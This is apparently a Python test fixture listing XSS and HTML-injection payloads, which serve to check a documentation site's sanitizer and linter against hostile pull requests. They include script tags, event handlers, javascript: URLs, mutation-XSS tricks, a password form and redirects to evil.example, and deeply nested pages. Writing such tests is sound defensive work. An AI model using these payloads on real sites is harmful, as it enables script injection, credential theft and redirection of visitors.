"""Pages a pull request could send to put active content on the site, and what must be reported.

Each payload is one Spanish page (a pull request that edits `docs/es/*.md` only). Every script in
them sets `window.__pwned`, so a browser test can tell whether any ran. `findings` lists the
(rule, text) pairs that must be reported: the finding's line is the first line holding the text,
at or after the page's front matter.
"""

from __future__ import annotations

from dataclasses import dataclass

PWN = "window.__pwned=1"


@dataclass(frozen=True)
class Payload:
    name: str
    markdown: str
    findings: tuple[tuple[str, str], ...]  # (rule id, text on the expected line)

    @property
    def file(self) -> str:
        return f"docs/es/payload-{self.name}.md"

    @property
    def url_path(self) -> str:
        return f"es/payload-{self.name}/"


def _page(body: str) -> str:
    return f"# Prueba\n\nTexto.\n\n{body}\n\nFin.\n"


PAYLOADS = (
    Payload("unclosed-backtick-fence", _page(f"```\n\n<script>{PWN}</script>"), (("unsafe-html", "<script>"),)),
    Payload("unclosed-tilde-fence", _page(f"~~~\n\n<script>{PWN}</script>"), (("unsafe-html", "<script>"),)),
    Payload("indented-img-after-list", _page(f'- item\n\n      <img src=x onerror="{PWN}">'),
            (("unsafe-event-handler", "onerror"),)),
    Payload("quoted-img", _page("> " * 19 + f'<img src=x onerror="{PWN}">'), (("unsafe-event-handler", "onerror"),)),
    Payload("attr-list-image", _page(f'![m](data:,x){{ onerror="{PWN}" }}'),
            (("unsafe-event-handler", "onerror"), ("unsafe-html", "data:,x"))),
    Payload("attr-list-paragraph", _page(f'Texto.\n{{: onclick="{PWN}" }}'), (("unsafe-event-handler", "onclick"),)),
    Payload("attr-list-link", _page(f'[x](https://example.org){{ href="javascript:{PWN}" }}'),
            (("unsafe-javascript-url", "javascript:"),)),
    Payload("attr-list-heading", _page(f'## Título {{ #id onmouseover="{PWN}" }}'), (("unsafe-event-handler", "onmouseover"),)),
    Payload("md-in-html", _page(f'<div markdown>\n[y](https://example.org){{ href="javascript:{PWN}" }}\n</div>'),
            (("unsafe-javascript-url", "javascript:"),)),
    Payload("base", _page('<base href="https://evil.example/">'), (("unsafe-html", "<base"),)),
    Payload("meta-refresh", _page('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), (("unsafe-html", "<meta"),)),
    Payload("style", _page("<style>body{display:none}</style>"), (("unsafe-html", "<style"),)),
    Payload("password-form", _page('<form action="https://evil.example/"><input type="password" name="p"></form>'),
            (("unsafe-html", "<form"), ("unsafe-html", "<input"))),
    Payload("stylesheet", _page('<link rel="stylesheet" href="https://evil.example/x.css">'), (("unsafe-html", "<link"),)),
    Payload("svg-animate", _page(f'<svg><a><animate attributeName="href" values="javascript:{PWN}"/><text y="20">x</text></a></svg>'),
            (("unsafe-html", "<svg"),)),
    Payload("front-matter", f'---\ntitle: "<img src=x onerror={PWN}>"\ndescription: "\\"><script>{PWN}</script>"\n---\n\nTexto.\n',
            (("unsafe-html", "title:"), ("unsafe-html", "description:"))),
    # Front matter MkDocs cannot read would be published as text: the build drops the page instead.
    Payload("invalid-front-matter", f"---\ntitle: [sin cerrar\n<script>{PWN}</script>\n---\n\nTexto.\n",
            (("front-matter-syntax", "<script>"),)),
    # More than the issue lists: DOM clobbering of the theme's configuration, character references,
    # other script schemes, frames and objects, mutation XSS through foreign content and noscript.
    Payload("theme-id", _page('<p id="__config">{"search": "https://evil.example/w.js"}</p>'), (("unsafe-html", "__config"),)),
    Payload("encoded-scheme", _page(f'<a href="JaVa&#115;cript:{PWN}">x</a>'), (("unsafe-javascript-url", "href="),)),
    # Found by the random-Markdown test: ammonia keeps it as a relative URL; browsers drop the tab.
    Payload("tab-in-scheme", _page(f'[x](java\tscript:{PWN})'), (("unsafe-javascript-url", "script:"),)),
    Payload("vbscript", _page('<a href="vbscript:msgbox(1)">x</a>'), (("unsafe-javascript-url", "vbscript:"),)),
    Payload("iframe-srcdoc", _page(f'<iframe srcdoc="<script>{PWN}</script>"></iframe>'), (("unsafe-html", "<iframe"),)),
    Payload("object-embed", _page('<object data="https://evil.example/x.swf"></object>\n\n<embed src="https://evil.example/x.swf">'),
            (("unsafe-html", "<object"), ("unsafe-html", "<embed"))),
    Payload("math-mxss", _page(f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">'), (("unsafe-html", "<math"),)),
    Payload("noscript-mxss", _page(f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>'),
            (("unsafe-html", "<noscript"),)),
    Payload("details-ontoggle", _page(f'<details open ontoggle="{PWN}"><summary>s</summary>x</details>'),
            (("unsafe-event-handler", "ontoggle"),)),
    Payload("remote-image", _page("![t](https://evil.example/track.png)"), (("unsafe-html", "evil.example/track.png"),)),
    Payload("nested-quotes", _page("> " * 25 + f'<img src=x onerror="{PWN}">'), (("page-limits", "> > >"),)),
    Payload("nested-list-250", _page("\n".join("  " * depth + "- x" for depth in range(250))), (("page-limits", "  " * 20 + "- x"),)),
    Payload("nested-list-5000", _page("- " * 5000 + "x"), (("page-limits", "- - -"),)),
    Payload("footnotes-600", _page(" ".join(f"n[^{n}]" for n in range(600)) + "\n\n"
                                   + "\n".join(f"[^{n}]: nota" for n in range(600))), (("page-limits", "[^500]:"),)),
)
# Text of mkdocs.yml that every Spanish page prints (the translation notice): escaped, never markup.
NOTICE_PAYLOAD = f'Aviso <img src=x onerror="{PWN}"> fin'


def expected_line(text: str, needle: str) -> int:
    """The first line holding `needle` (1-based)."""
    for number, line in enumerate(text.split("\n"), start=1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} is in no line")
